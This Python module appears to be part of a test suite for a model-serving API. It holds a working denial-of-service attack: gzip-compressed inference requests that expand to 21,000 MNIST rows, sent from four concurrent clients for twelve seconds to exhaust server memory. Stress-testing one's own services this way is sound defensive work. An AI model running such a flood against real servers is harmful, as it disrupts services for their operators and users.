"""Attacks on the memory of model_api: small requests that mean large runs."""

from __future__ import annotations

import gzip
import json
import time
from concurrent.futures import ThreadPoolExecutor

import requests

# As many rows of mnist as fit into a body, as 32-bit floats, when web_api sends them on.
ROWS = 21_000
SECONDS = 12


def many_rows(url: str) -> bytes:
    """A compressed request with many equal rows of mnist."""
    shape = requests.get(f"{url}/v2/models/mnist", timeout=10).json()["inputs"][0]
    row = [0] * (28 * 28)
    data = f"[{','.join([json.dumps(row)[1:-1]] * ROWS)}]"
    lengths = [ROWS, *shape["shape"][1:]]
    body = f'{{"inputs":[{{"name":"{shape["name"]}","datatype":"{shape["datatype"]}","shape":{json.dumps(lengths)},"data":{data}}}]}}'
    return gzip.compress(body.encode(), 9)


def send_many_rows(url: str) -> None:
    """Requests of a hundred kilobytes, each with 21,000 rows, from four clients at once."""
    body = many_rows(url)
    headers = {"Content-Type": "application/json", "Content-Encoding": "gzip", "Cache-Control": "no-store"}
    end = time.monotonic() + SECONDS

    def send(_: int) -> None:
        while time.monotonic() < end:
            try:
                requests.post(f"{url}/v2/models/mnist/infer", body, headers=headers, timeout=max(1.0, end - time.monotonic()))
            except requests.RequestException:
                time.sleep(0.1)

    with ThreadPoolExecutor(4) as clients:
        list(clients.map(send, range(4)))


ATTACKS = {"H6 21,000 rows in one request": send_many_rows}
